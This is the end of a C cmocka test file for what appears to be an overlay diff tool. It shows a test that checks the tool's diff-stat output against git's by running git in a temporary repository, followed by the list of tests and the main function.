    put(w->lower, "some/very/long/path-name-that-goes-on-and-on-and-on-for-a-while.txt", "x\n",
        0644);
    ws_snapshot(w);
    o_put(w, "a.txt", "1\nTWO\n3\n5\n6\n7\n", 0644);
    o_rm(w, "gone.txt");
    o_chmod(w, "mode", 0755);
    o_put(w, "new.txt", "n\n", 0644);
    put_bytes(w->upper, "bin", "\0\1\2\3\4", 5);
    put_bytes(w->expect, "bin", "\0\1\2\3\4", 5);
    pdk_buf many = {0};
    for (int i = 0; i < 120; i++)
        pdk_buf_printf(&many, "line %d\n", i);
    o_put(w, "some/very/long/path-name-that-goes-on-and-on-and-on-for-a-while.txt", many.data,
          0644);
    pdk_buf_free(&many);

    _cleanup_free_ char *ours = render_stat(w, true);
    _cleanup_free_ char *repo = at(w->root, "repo");
    _cleanup_free_ char *out = at(w->root, "git-stat");
    _cleanup_free_ char *cmd =
        xasprintf("set -e; export GIT_CEILING_DIRECTORIES=/tmp HOME='%s' GIT_CONFIG_NOSYSTEM=1; "
                  "cp -a '%s' '%s'; cd '%s'; git init -q .; git add -A; "
                  "git -c user.name=t -c user.email=t@t commit -qm base; "
                  "find . -mindepth 1 -maxdepth 1 ! -name .git -exec rm -rf {} +; "
                  "cp -a '%s'/. .; git add -A; git diff --cached --no-renames --stat=80 > '%s'",
                  w->root, w->lower, repo, repo, w->expect, out);
    assert_int_equal(run(cmd), 0);
    char *theirs = NULL;
    assert_int_equal(pdk_read_file_at(AT_FDCWD, out, &theirs, NULL, 0), 0);
    if (getenv("PDK_TEST_VERBOSE"))
        print_message("--- ours\n%s--- git\n%s", ours, theirs);
    if (strcmp(ours, theirs) != 0)
        fail_msg("--stat differs from git's\n--- ours\n%s--- git\n%s", ours, theirs);
    free(theirs);
    ws_free(w);
}

static int teardown(void **state)
{
    ws_free(current_ws);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_teardown(t_scan_basic, teardown),
        cmocka_unit_test_teardown(t_scan_modes_and_symlinks, teardown),
        cmocka_unit_test_teardown(t_scan_type_changes_and_opaque, teardown),
        cmocka_unit_test_teardown(t_scan_other_placeholders_and_order, teardown),
        cmocka_unit_test_teardown(t_scan_origin, teardown),
        cmocka_unit_test_teardown(t_scan_empty_origin, teardown),
        cmocka_unit_test_teardown(t_scan_symlinks_not_followed, teardown),
        cmocka_unit_test_teardown(t_open_regular_only, teardown),
        cmocka_unit_test_teardown(t_path_selection, teardown),
        cmocka_unit_test_teardown(t_render_patch_text, teardown),
        cmocka_unit_test_teardown(t_render_binary_and_quoting, teardown),
        cmocka_unit_test_teardown(t_render_json, teardown),
        cmocka_unit_test_teardown(t_render_for_humans, teardown),
        cmocka_unit_test(t_file_types),
        cmocka_unit_test_teardown(t_git_apply_roundtrip, teardown),
        cmocka_unit_test_teardown(t_stat_like_git, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
